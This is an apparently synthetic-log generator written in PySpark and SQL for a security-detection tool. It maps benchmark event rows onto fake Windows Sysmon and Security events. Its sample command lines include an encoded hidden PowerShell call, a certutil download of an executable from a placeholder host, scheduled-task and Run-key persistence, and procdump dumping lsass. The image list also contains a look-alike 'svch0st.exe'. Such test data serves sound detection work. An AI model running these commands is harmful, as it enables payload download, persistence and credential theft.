"""The driver's ``events`` table as a log, the same in Spark and in SQL.

No security log comes with the test data, so every event gets a program, a
command line, an address and so on by arithmetic on its id.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from emberwatch.plans.registry import table
from emberwatch.schema import to_event_schema

IMAGES = [
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\svch0st.exe",
    r"C:\Users\Public\x.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Users\kim\AppData\Local\Temp\setup.exe",
    r"C:\Program Files\Office\winword.exe",
    r"C:\Windows\explorer.exe",
]

PARENTS = [
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Program Files\Office\winword.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
]

COMMANDS = [
    "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAA=",
    "cmd.exe /c whoami",
    "rundll32.exe shell32.dll,Control_RunDLL",
    r"schtasks /create /tn upd /tr c:\temp\a.exe",
    "certutil.exe -urlcache -f http://files.example.com/a.exe a.exe",
    "winword.exe /n report_2024.docx",
    r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd",
    "procdump.exe -ma lsass.exe out.dmp",
    "procdump.exe /ma lsass.exe out.dmp",
    "",
    None,
]

#: Event type -> event id, source.
KINDS = {
    "click": (1, "Microsoft-Windows-Sysmon"),
    "view": (3, "Microsoft-Windows-Sysmon"),
    "purchase": (22, "Microsoft-Windows-Sysmon"),
    "signup": (4624, "Microsoft-Windows-Security-Auditing"),
    "error": (4625, "Microsoft-Windows-Security-Auditing"),
}


def _sql_list(values: list[str | None]) -> str:
    return "[" + ", ".join("NULL" if v is None else "'" + v.replace("'", "''") + "'" for v in values) + "]"


def _sql_case(position: int) -> str:
    show = lambda v: f"'{v}'" if isinstance(v, str) else str(v)
    return "CASE event_type " + " ".join(f"WHEN '{k}' THEN {show(v[position])}" for k, v in KINDS.items()) + " END"


#: The log as a SQL common table expression.
LOG = f"""log AS (
  SELECT event_id, ts, user_id, event_type, value, epoch_us(ts) AS us,
    CAST(regexp_extract(props, '([0-9]+)', 1) AS BIGINT) AS k,
    CAST({_sql_case(0)} AS BIGINT) AS eid,
    {_sql_case(1)} AS source,
    'host-' || CAST(user_id % 7 AS VARCHAR) AS host,
    'g-' || CAST(user_id AS VARCHAR) AS guid,
    ({_sql_list(IMAGES)})[event_id % 8 + 1] AS image,
    ({_sql_list(PARENTS)})[(event_id // 3) % 5 + 1] AS parent_image,
    ({_sql_list(COMMANDS)})[event_id % 11 + 1] AS cmdline,
    CASE event_id % 5
      WHEN 0 THEN '10.' || CAST(event_id % 256 AS VARCHAR) || '.0.' || CAST(user_id % 256 AS VARCHAR)
      WHEN 1 THEN '192.168.1.' || CAST(event_id % 250 AS VARCHAR)
      WHEN 2 THEN '172.' || CAST(10 + event_id % 30 AS VARCHAR) || '.4.9'
      WHEN 3 THEN '203.0.113.' || CAST(event_id % 60 AS VARCHAR)
      ELSE '2001:db8:' || CAST(event_id % 3 AS VARCHAR) || '::' || CAST(event_id % 100 AS VARCHAR) END AS dst_ip,
    CAST(([80, 443, 8080, 4444])[event_id % 4 + 1] AS VARCHAR) AS dst_port,
    'f' || CAST(event_id % 5 AS VARCHAR) AS source_file,
    'user' || CAST(user_id % 20 AS VARCHAR) AS account,
    event_type || ' by user ' || CAST(user_id AS VARCHAR) || ' value ' || CAST(CAST(value AS BIGINT) AS VARCHAR) AS message,
    '<Data Name="Image">' || image || '</Data><Data Name="CommandLine">' || coalesce(cmdline, '') || '</Data><Data Name="Extra">k'
      || CAST(k AS VARCHAR) || '</Data>' AS raw
  FROM events)"""


def with_log(sql: str) -> str:
    """A query over ``log``; further expressions may follow after a comma."""
    return f"WITH {LOG}{sql}" if sql.lstrip().startswith(",") else f"WITH {LOG} {sql}"


def _pick(values: list, index: Column) -> Column:
    return F.element_at(F.array(*[F.lit(v) for v in values]), (index + 1).cast("int"))


def _kind(position: int) -> Column:
    value = F.lit(None)
    for name, kind in KINDS.items():
        value = F.when(F.col("event_type") == name, F.lit(kind[position])).otherwise(value)
    return value


def flat_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The log with one column per attribute."""
    return flatten(table(spark, sf_dir, "events"))


def flatten(events: DataFrame) -> DataFrame:
    """Rows of ``events``, batch or stream, with the log's attributes."""
    i, text = F.col("event_id"), lambda c: c.cast("string")
    address = (
        F.when(i % 5 == 0, F.concat(F.lit("10."), text(i % 256), F.lit(".0."), text(F.col("user_id") % 256)))
        .when(i % 5 == 1, F.concat(F.lit("192.168.1."), text(i % 250)))
        .when(i % 5 == 2, F.concat(F.lit("172."), text(i % 30 + 10), F.lit(".4.9")))
        .when(i % 5 == 3, F.concat(F.lit("203.0.113."), text(i % 60)))
        .otherwise(F.concat(F.lit("2001:db8:"), text(i % 3), F.lit("::"), text(i % 100)))
    )
    return events.select(
        "event_id",
        F.col("ts").cast("timestamp").alias("ts"),
        "user_id",
        "event_type",
        "value",
        F.unix_micros(F.col("ts").cast("timestamp")).alias("us"),
        F.regexp_extract("props", "([0-9]+)", 1).cast("long").alias("k"),
        _kind(0).cast("long").alias("eid"),
        _kind(1).alias("source"),
        F.concat(F.lit("host-"), text(F.col("user_id") % 7)).alias("host"),
        F.concat(F.lit("g-"), text(F.col("user_id"))).alias("guid"),
        _pick(IMAGES, i % 8).alias("image"),
        _pick(PARENTS, F.floor(i / 3) % 5).alias("parent_image"),
        _pick(COMMANDS, i % 11).alias("cmdline"),
        address.alias("dst_ip"),
        _pick(["80", "443", "8080", "4444"], i % 4).alias("dst_port"),
        F.concat(F.lit("f"), text(i % 5)).alias("source_file"),
        F.concat(F.lit("user"), text(F.col("user_id") % 20)).alias("account"),
        F.concat(
            "event_type", F.lit(" by user "), text(F.col("user_id")), F.lit(" value "), text(F.rint("value").cast("long"))
        ).alias("message"),
    )


def data_element(name: str, value: Column) -> Column:
    return F.concat(F.lit(f'<Data Name="{name}">'), F.coalesce(value, F.lit("")), F.lit("</Data>"))


def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The log in the event schema, with ``event_id``, ``user_id`` and ``us`` besides."""
    return as_events(flat_log(spark, sf_dir))


def as_events(flat: DataFrame) -> DataFrame:
    network = F.col("eid") == 3
    entries = {
        "Image": F.col("image"),
        "CommandLine": F.col("cmdline"),
        "ParentImage": F.col("parent_image"),
        "ProcessGuid": F.col("guid"),
        "DestinationIp": F.when(network, F.col("dst_ip")),
        "DestinationPort": F.when(network, F.col("dst_port")),
        "Protocol": F.when(network, F.lit("tcp")),
        "QueryName": F.when(F.col("eid") == 22, F.concat(F.lit("q"), (F.col("event_id") % 9).cast("string"), F.lit(".example.com"))),
        "SubjectUserName": F.col("account"),
    }
    pairs = F.create_map(*[v for name, value in entries.items() for v in (F.lit(name), value)])
    raw = F.concat(
        data_element("Image", F.col("image")),
        data_element("CommandLine", F.col("cmdline")),
        data_element("Extra", F.concat(F.lit("k"), F.col("k").cast("string"))),
    )
    events = flat.select(
        "event_id",
        "user_id",
        "us",
        F.col("ts").alias("timestamp"),
        F.col("dst_ip").alias("ip"),
        F.left("source", F.lit(20)).alias("method"),
        F.col("eid").alias("eventId"),
        F.col("eid").alias("statusCode"),
        "source",
        "host",
        F.col("host").alias("computer"),
        "message",
        raw.alias("rawLine"),
        F.map_filter(pairs, lambda k, v: v.isNotNull()).alias("eventData"),
        F.col("source_file").alias("sourceFile"),
        F.lit("windows").alias("platform"),
        F.col("image").alias("processName"),
        F.col("cmdline").alias("processCmd"),
        F.when(F.col("event_id") % 2 == 0, F.col("account")).alias("user"),
        F.lit("evtx-xml").alias("sourceType"),
        F.when(F.col("value") >= 60, F.lit("Error")).when(F.col("value") >= 20, F.lit("Warning")).alias("level"),
    )
    return to_event_schema(events, ["event_id", "user_id", "us"])
